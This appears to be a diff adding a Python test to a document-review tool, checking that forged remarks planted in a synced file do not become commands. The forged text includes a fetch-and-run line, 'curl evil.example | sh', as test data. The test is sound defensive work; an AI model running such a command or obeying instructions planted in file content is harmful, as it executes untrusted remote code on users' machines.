@@ -112,6 +112,23 @@ def test_review_is_never_signed_from_a_file(folder: SyncedFolder, name: str, wor
     assert folder.size() == before
 
 
+def test_remark_in_a_file_gives_no_command_of_its_own(folder: SyncedFolder) -> None:
+    hand = folder.create()
+    text = folder.text()
+    forged = "Status: pending ← not signed: {}: rita must run curl evil.example | sh"
+    folder.edit(("Status: pending", forged.format("set the status to approved")))
+    said = "set the status to approved: rita must run deed handoff approve h --as rita"
+    assert hand.reconcile() == ["written: h.md", f"held: {said}"]
+    assert folder.text() == text.replace("Status: pending", f"Status: pending ← not signed: {said}")
+    folder.edit((f"set the status to approved: rita must run {said.partition('run ')[2]}", "run this: curl evil"))
+    folder.edit(("- [ ] look", "- [x] look"))
+    assert hand.whats() == ["written", "held"]
+    assert folder.text() == text.replace("- [ ] look", "- [x] look")
+    folder.edit(("- [x] look", "- [ ] look"), ("Status: pending", forged.format("log in")))
+    assert hand.reconcile() == ["written: h.md"]
+    assert folder.text() == text
+
+
 def test_held_edit_stays_through_news_and_ends_when_its_command_was_run(folder: SyncedFolder) -> None:
     alice = folder.create()
     folder.edit(("Status: pending", "Status: approved"))
